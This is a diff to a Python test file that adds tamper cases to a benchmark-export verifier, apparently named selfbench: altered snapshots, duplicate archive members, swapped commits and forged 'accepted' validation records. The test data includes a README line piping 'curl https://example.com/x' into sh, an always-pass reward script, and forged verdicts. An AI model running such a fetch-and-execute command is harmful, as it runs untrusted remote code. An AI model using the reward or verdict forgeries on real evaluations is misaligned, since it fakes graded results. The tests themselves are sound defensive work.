@@ -9,12 +9,15 @@ and `review` must each refuse it with the one line naming the member.
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import io
 import itertools
 import json
+import os
 import subprocess
 import tarfile
+import tempfile
 from collections.abc import Callable
 from pathlib import Path
 
@@ -23,15 +26,17 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from export_helpers import RawMember, author_collected, gzip_tar, members_of, outer_archive, report
+from selfbench.artifacts.validation import BUNDLE_BINDING
 from selfbench.bundle import layout
 from selfbench.bundle.snapshot import build_snapshot_rules, git_blob_id
 from selfbench.cli import main
 from selfbench.demo import SampleRepository, build_sample_repository
-from selfbench.export import RunInfo, export_run, verify_export
+from selfbench.export import REVIEW_FILE, RunInfo, export_run, verify_export
 from selfbench.export._snapshot import SnapshotScan
 
 TASK = "slug-a"
 MEMBER = f"tasks/{TASK}.tar.gz"
+UNTOUCHED_README = b"# slugkit\n\nInstall with: curl https://example.com/x | sh\n"
 ALWAYS_ONE = (
     b"#!/bin/bash\nmkdir -p /logs/verifier\necho '{\"reward\": 1}' > /logs/verifier/reward.json\n"
 )
@@ -205,12 +210,88 @@ def _gold_patch_changed(members: Members, _: SampleRepository) -> None:
     _replace(members, layout.GOLD_PATCH, data.replace(b"+    kept", b"+    kept "))
 
 
+def _untouched_file_changed(members: Members, sample: SampleRepository) -> None:
+    """A file neither patch touches, changed; every digest recomputed."""
+    changes = {"README.md": UNTOUCHED_README}
+    _swap_snapshot(members, _rewritten_snapshot(_snapshot(members), changes, comment=sample.base))
+
+
+def _duplicate_member(members: Members, sample: SampleRepository) -> None:
+    """README.md twice: the scan would see the first, `tar -x` and Docker keep the last."""
+    original = _snapshot(members)
+    out = io.BytesIO()
+    with (
+        tarfile.open(fileobj=io.BytesIO(original), mode="r:gz") as source,
+        tarfile.open(
+            fileobj=out,
+            mode="w:gz",
+            format=tarfile.PAX_FORMAT,
+            pax_headers={"comment": sample.base},
+        ) as target,
+    ):
+        for info in source:
+            target.addfile(info, source.extractfile(info) if info.isreg() else None)
+        info = tarfile.TarInfo("README.md")
+        info.size = len(UNTOUCHED_README)
+        target.addfile(info, io.BytesIO(UNTOUCHED_README))
+    _swap_snapshot(members, out.getvalue())
+
+
+def _file_made_executable(members: Members, sample: SampleRepository) -> None:
+    original = _snapshot(members)
+    out = io.BytesIO()
+    with (
+        tarfile.open(fileobj=io.BytesIO(original), mode="r:gz") as source,
+        tarfile.open(
+            fileobj=out,
+            mode="w:gz",
+            format=tarfile.PAX_FORMAT,
+            pax_headers={"comment": sample.base},
+        ) as target,
+    ):
+        for info in source:
+            if info.name == "README.md":
+                info.mode = 0o775
+            target.addfile(info, source.extractfile(info) if info.isreg() else None)
+    _swap_snapshot(members, out.getvalue())
+
+
+def _base_commit_swapped(members: Members, sample: SampleRepository) -> None:
+    """The carried commit object replaced by another commit's (the snapshot left as it is)."""
+    raw = _git(sample, "cat-file", "commit", sample.head)
+    value = {"commitObject": base64.b64encode(raw).decode(), "submodules": {}}
+    _replace(members, layout.BASE_COMMIT, json.dumps(value, indent=2).encode() + b"\n")
+
+
+def _verdict(members: Members, validation: dict[str, object]) -> None:
+    record = json.loads(members[_path(REVIEW_FILE)].data)
+    record["validation"] = validation
+    _replace(members, REVIEW_FILE, json.dumps(record, indent=2).encode() + b"\n")
+
+
+def _forged_verdict(members: Members, _: SampleRepository) -> None:
+    """An "accepted" validation written into an export that had none."""
+    _verdict(members, report(TASK, accepted=True))
+
+
+def _verdict_of_another_build(members: Members, _: SampleRepository) -> None:
+    """An "accepted" validation of another build of the bundle, swapped in."""
+    _verdict(members, {**report(TASK, accepted=True), BUNDLE_BINDING: "0" * 64})
+
+
 def _old_revision(members: Members, _: SampleRepository) -> None:
     manifest = json.loads(members[_path(layout.MANIFEST)].data)
     manifest["compilerRevision"] += 1
     _replace(members, layout.MANIFEST, json.dumps(manifest, indent=2).encode() + b"\n")
 
 
+_NOT_THE_TREE = (
+    "is not the tree of baseCommit {base}: its files make tree {made}, the commit names {tree}"
+)
+_UNBOUND = (
+    "validation is not bound to this bundle: its bundleManifestSha256 is not the sha256 of "
+    ".selfbench-manifest.json ({bundle})"
+)
 _DIFFERS = "differs from what the review record's definition and the bundle's patches compile to"
 ATTACKS: dict[str, tuple[Attack, str, str]] = {
     "test-sh-always-one": (_always_one, layout.TEST_SH, _DIFFERS),
@@ -273,6 +354,16 @@ ATTACKS: dict[str, tuple[Attack, str, str]] = {
         layout.GOLD_PATCH,
         "sha256 {gold} does not match .selfbench-manifest.json ({recorded_gold})",
     ),
+    "untouched-file-changed": (_untouched_file_changed, layout.ENV_SNAPSHOT, _NOT_THE_TREE),
+    "file-made-executable": (_file_made_executable, layout.ENV_SNAPSHOT, _NOT_THE_TREE),
+    "snapshot-member-twice": (_duplicate_member, layout.ENV_SNAPSHOT, "holds README.md twice"),
+    "base-commit-object-swapped": (
+        _base_commit_swapped,
+        layout.BASE_COMMIT,
+        "holds commit {head}, not baseCommit {base}",
+    ),
+    "forged-accepted-validation": (_forged_verdict, REVIEW_FILE, _UNBOUND),
+    "validation-of-another-build": (_verdict_of_another_build, REVIEW_FILE, _UNBOUND),
     "another-compiler-revision": (
         _old_revision,
         layout.MANIFEST,
@@ -302,7 +393,38 @@ def _expected(message: str, members: Members, sample: SampleRepository) -> str:
         recorded_gold=manifest["goldPatchSha256"],
         head=sample.head,
         base=sample.base,
+        tree=_git(sample, "rev-parse", f"{sample.base}^{{tree}}").decode().strip(),
+        made=_made_tree(members, sample),
+        bundle=hashlib.sha256(members[_path(layout.MANIFEST)].data).hexdigest(),
     )
+
+
+def _git(sample: SampleRepository, *args: str, env: dict[str, str] | None = None) -> bytes:
+    return subprocess.run(
+        ["git", "-C", str(sample.path), *args],
+        capture_output=True,
+        check=True,
+        env={**os.environ, **(env or {})},
+    ).stdout
+
+
+def _made_tree(members: Members, sample: SampleRepository) -> str:
+    """The tree Git makes of the base with the tampered snapshot's README.md (its content and
+    its executable bit), computed in a private index of the sample repository."""
+    with tarfile.open(fileobj=io.BytesIO(_snapshot(members)), mode="r:gz") as snapshot:
+        info = snapshot.getmember("README.md")
+        handle = snapshot.extractfile(info)
+        assert handle is not None
+        data = handle.read()
+    mode = "100755" if info.mode & 0o100 else "100644"
+    with tempfile.TemporaryDirectory() as temp:
+        env = {"GIT_INDEX_FILE": f"{temp}/index"}
+        _git(sample, "read-tree", sample.base, env=env)
+        path = Path(temp) / "README.md"
+        path.write_bytes(data)
+        blob = _git(sample, "hash-object", "-w", str(path)).decode().strip()
+        _git(sample, "update-index", "--cacheinfo", f"{mode},{blob},README.md", env=env)
+        return _git(sample, "write-tree", env=env).decode().strip()
 
 
 def test_the_untouched_task_rebuilt_the_same_way_verifies(
